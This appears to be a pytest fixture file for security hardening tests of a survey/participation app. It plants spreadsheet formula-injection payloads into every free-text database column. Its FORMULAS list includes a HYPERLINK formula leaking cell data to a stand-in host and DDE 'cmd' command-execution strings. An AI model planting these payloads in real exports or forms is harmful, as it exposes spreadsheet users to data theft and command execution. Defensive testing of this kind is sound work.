"""Fixtures of the hardening tests (security issue #17): the demo territory of every feature,
and formula payloads planted in every column that holds words a person typed."""
from __future__ import annotations

import pytest
import sqlalchemy as sa

from participation.extensions import db
from tests.privacy.conftest import demo  # noqa: F401 (fixture re-used here)

# What an attacker types into a form: each one runs when a spreadsheet opens the cell.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Columns that are identifiers, codes or enumerations, not words: left as they are.
NOT_WORDS = {"slug", "token", "nonce", "purpose", "result_ref", "phone_key", "email_key",
             "text_version", "withdrawn_by", "source_table", "kind", "code", "insee_code",
             "key", "languages", "language", "status", "form_id", "email", "role", "password_hash",
             "actor", "action", "target", "ip", "details", "colour", "author_role",
             "source_format", "source_type", "age_band", "sex", "origin", "source",
             "fingerprint", "seed", "seed_announcement", "result_json", "name_key", "quadrant",
             "channel", "external_id", "outcome", "type", "condition_op", "condition_value",
             "relevant", "relevant_ast",
             "contribution_kind", "codebook", "fmt", "consent_version", "submission_token",
             "form_token", "availability", "audience", "offered", "meal_needs",
             "interpreter_language", "phone"}
# Identifier columns of these tables (a question's or an option's name is its XLSForm name).
NOT_WORDS_IN = {("survey_question", "name"), ("survey_option", "name"),
                ("johari_group", "slug"),
                # which field of its target a translation holds ("label", "hint"…): a name
                ("survey_translation", "field"), ("johari_translation", "field")}


def word_columns() -> list[tuple[sa.Table, sa.Column]]:
    """Every String/Text column that holds a label or words typed by someone."""
    found = []
    for table in db.metadata.sorted_tables:
        for column in table.columns:
            if isinstance(column.type, sa.String) and column.name not in NOT_WORDS and \
                    (table.name, column.name) not in NOT_WORDS_IN:
                found.append((table, column))
    return found


def plant_formulas() -> int:
    """Prefix every word column of every row with one of FORMULAS (cycling); returns the
    number of columns planted. The original text is kept after the formula, so unique
    constraints still hold."""
    planted = 0
    for number, (table, column) in enumerate(word_columns()):
        payload = FORMULAS[number % len(FORMULAS)]
        value = sa.literal(payload + " ") + column
        if getattr(column.type, "length", None):  # PostgreSQL refuses a longer value
            value = sa.func.substr(value, 1, column.type.length)
        db.session.execute(table.update().where(column.isnot(None), column != "")
                           .values({column.name: value}))
        planted += 1
    db.session.commit()
    return planted


@pytest.fixture
def planted(demo):  # noqa: F811 (the fixture imported above)
    """The demo territory with formulas planted in every word column."""
    plant_formulas()
    return demo
